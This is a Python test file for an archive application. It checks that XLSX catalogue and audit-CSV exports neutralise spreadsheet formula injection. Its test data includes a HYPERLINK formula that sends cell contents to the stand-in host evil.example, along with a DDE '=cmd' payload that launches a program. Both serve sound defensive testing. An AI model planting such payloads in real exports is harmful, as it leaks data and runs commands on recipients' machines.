"""Exports never carry live formulas (issue 11 item 7; OWASP "CSV Injection"): a 题名 typed as a
formula reaches the other agency's 归档文件目录 as plain text, in XLSX and in the audit CSV."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from archive_app import audit
from archive_app.core.spreadsheet_cells import csv_value
from archive_app.records import reports
from tests import factories as f
from tests.conftest import PASSWORD
from tests.helpers import login

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'


@pytest.mark.parametrize("title", [EVIL, "+1+1", "-2+3", "@SUM(1,2)"])
def test_a_formula_title_is_text_in_the_xlsx_catalogue(archive, org, tmp_path, title: str) -> None:
    f.file_bytes(archive, tmp_path, f.pdf_bytes(), title=title)
    with archive.db.session() as s:
        report = reports.build(s, "filing-catalogue", "SPJ", viewer=None)
    data = reports.to_xlsx(report)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere in the sheet
    cell = load_workbook(io.BytesIO(data)).active.cell(row=4, column=5)  # 题名 of the first row
    assert (cell.value, cell.data_type) == (title, "s")
    assert cell.quotePrefix is True  # Excel shows the text as typed, never evaluates it


def test_numbers_stay_numbers(archive, org, tmp_path) -> None:
    f.file_bytes(archive, tmp_path, f.pdf_bytes(), title="劳务派遣经营许可决定书")
    with archive.db.session() as s:
        ws = load_workbook(io.BytesIO(reports.to_xlsx(reports.build(s, "filing-catalogue", "SPJ",
                                                                     viewer=None)))).active
    assert ws.cell(row=4, column=1).value == 1 and ws.cell(row=4, column=1).data_type == "n"


def test_csv_values_are_neutralised() -> None:
    assert csv_value("=1+1") == "'=1+1" and csv_value("@x") == "'@x" and csv_value("\rA") == "'\rA"
    assert csv_value("劳务派遣") == "劳务派遣" and csv_value(-3) == -3


def test_the_audit_csv_export_has_no_formula(app, client, archive) -> None:
    from archive_app.organisation.users import create_user

    with archive.db.transaction() as s:
        create_user(s, "spj_admin", "SPJ", "admin", PASSWORD)
        audit.append(s, actor="spj_admin", agency_code="SPJ", action="record.view", object_type="record",
                     object_id="1", detail={"title": EVIL})
        audit.append(s, actor="=cmd|' /C calc'!A0", agency_code="SPJ", action="record.view")
    login(client, "spj_admin")
    body = client.get("/audit/export.csv").get_data(as_text=True)
    lines = body.splitlines()
    assert any(line.split(",")[2] == "'=cmd|' /C calc'!A0" for line in lines[1:]), lines
    assert not any(field.startswith(("=", "+", "-", "@")) for line in lines for field in line.split(","))
